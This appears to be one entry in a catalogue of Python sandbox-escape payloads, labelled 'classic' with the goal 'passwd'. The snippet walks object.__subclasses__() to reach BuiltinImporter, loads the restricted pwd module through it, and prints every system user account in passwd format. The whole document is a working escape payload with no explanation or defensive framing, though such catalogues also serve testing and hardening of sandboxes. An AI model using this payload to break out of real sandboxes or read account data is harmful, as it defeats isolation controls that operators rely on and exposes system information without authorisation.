# family: classic (BuiltinImporter loads a module)   goal: passwd
for c in object.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        pwd = c.load_module("pwd")
        for e in pwd.getpwall():
            print(":".join([e.pw_name, "x", str(e.pw_uid), str(e.pw_gid)]) + ":")
